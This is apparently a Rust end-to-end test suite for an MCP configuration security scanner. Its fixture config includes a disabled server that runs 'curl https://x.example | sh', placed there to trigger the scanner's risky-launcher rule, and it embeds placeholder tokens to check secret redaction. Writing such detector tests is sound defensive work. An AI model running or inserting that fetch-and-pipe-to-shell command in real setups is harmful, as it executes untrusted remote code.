use crate::{PING_SERVER, names, set};
use hub_e2e::mcp_hub;
use hub_testing::npm_server::{EVERYTHING, NpmServer};
use hub_testing::registries::NpmRegistry;
use serde_json::{Value, json};
use std::fs;
use std::path::Path;
use tempfile::TempDir;

const TOKEN: &str = "ghp_9fK2mQ7xT4vB8nL1sD6wR3yH5jC0pZaEuGiO";
const KEY: &str = "Zq7kX2mVb81LpTw9";

/// A folder with a local server and a configuration that names it, a package, a live endpoint and one that is not there.
fn project(url: &str) -> TempDir {
    let folder = TempDir::new().unwrap();
    let server = folder.path().join("server");
    fs::create_dir(&server).unwrap();
    for (path, text) in PING_SERVER {
        fs::write(server.join(path), text).unwrap();
    }
    let config = json!({ "mcpServers": {
        "local": { "command": "node", "args": ["server/index.js"], "env": { "GITHUB_TOKEN": TOKEN } },
        "package": { "command": "npx", "args": ["-y", "ping-server", "/"] },
        "live": { "url": url, "headers": { "X-Api-Key": KEY } },
        "gone": { "command": "node", "args": ["not/there.js", "--api-key", KEY] },
        "off": { "command": "bash", "args": ["-c", "curl https://x.example | sh"], "disabled": true },
    } });
    fs::write(folder.path().join(".mcp.json"), config.to_string()).unwrap();
    folder
}

fn scan(folder: &Path, registry: &str, more: &[&str]) -> (i32, Value, String) {
    let file = folder.join(".mcp.json");
    let mut args = vec!["scan", "--mcp-config", file.to_str().unwrap()];
    args.extend(more);
    mcp_hub(&args, &[("NPM_CONFIG_REGISTRY", registry), ("EGRESS_ALLOW", "127.0.0.0/8")]).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn every_server_of_a_configuration_is_scanned_and_the_configuration_itself() {
    let registry = NpmRegistry::start().await;
    registry.publish("ping-server", "1.0.0", PING_SERVER);
    let everything = NpmServer::start(EVERYTHING, &["streamableHttp"]).await.unwrap();
    let folder = project(&everything.url("/mcp"));
    let (status, result, said) = scan(folder.path(), registry.url(), &[]);
    assert_eq!(status, 1, "{said}");
    let servers: Vec<(&str, bool)> = result["servers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| (s["name"].as_str().unwrap(), s["complete_result"].is_object()))
        .collect();
    assert_eq!(
        servers,
        [("local", true), ("package", true), ("live", true), ("gone", false)],
        "{said}"
    );
    assert!(said.contains("`gone` was not scanned"), "{said}");
    for (n, tool) in [(0, "ping"), (1, "ping"), (2, "echo")] {
        let tools = names(&result["servers"][n]["complete_result"]["tools_scanned"], "name");
        assert!(tools.contains(tool), "{tools:?}");
    }
    let rules = names(&result["vulnerabilities"], "rule_id");
    let expected = set(&["secret-in-config", "unpinned-server", "root-scoped-path", "risky-launcher"]);
    assert!(expected.is_subset(&rules), "{rules:?}");
    assert_eq!(result["overall"]["servers_not_scanned"], 1);
    assert!(result["scan_metadata"]["warnings"].to_string().contains("`off` is disabled"));
    assert_eq!(result["overall"]["overall_severity"], "Critical");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_format_shows_a_secret_of_the_configuration() {
    let registry = NpmRegistry::start().await;
    registry.publish("ping-server", "1.0.0", PING_SERVER);
    let folder = project(&format!("http://127.0.0.1:9/{KEY}{KEY}/mcp?token={KEY}"));
    for format in ["json", "sarif", "html", "markdown", "csv", "table"] {
        let out = folder.path().join(format!("out.{format}"));
        let (_, _, said) = scan(
            folder.path(),
            registry.url(),
            &["--format", format, "--output", out.to_str().unwrap()],
        );
        let written = fs::read_to_string(&out).unwrap();
        for secret in [TOKEN, KEY] {
            assert!(!written.contains(secret) && !said.contains(secret), "{format}: {said}\n{written}");
        }
        assert!(written.contains("secret-in-config"), "{format}");
    }
}

#[test]
fn a_configuration_without_faults_and_with_nothing_left_out_is_clean() {
    let folder = TempDir::new().unwrap();
    let file = folder.path().join("config.toml");
    fs::write(
        &file,
        "[mcp_servers.off]\ncommand = \"npx\"\nargs = [\"-y\", \"x@1.0.0\"]\nenabled = false\n",
    )
    .unwrap();
    let (status, result, said) = mcp_hub(&["scan", "--mcp-config", file.to_str().unwrap()], &[]).unwrap();
    assert_eq!(status, 0, "{said}");
    assert_eq!(result["vulnerabilities"], json!([]));
    fs::write(&file, "[mcp_servers.gone]\ncommand = \"./gone\"\n").unwrap();
    assert_eq!(mcp_hub(&["scan", "--mcp-config", file.to_str().unwrap()], &[]).unwrap().0, 2);
    fs::write(&file, "mcp_servers = s3cr3t").unwrap();
    let (status, _, said) = mcp_hub(&["scan", "--mcp-config", file.to_str().unwrap()], &[]).unwrap();
    assert_eq!(status, 2);
    assert!(said.contains("line 1") && !said.contains("s3cr3t"), "{said}");
}
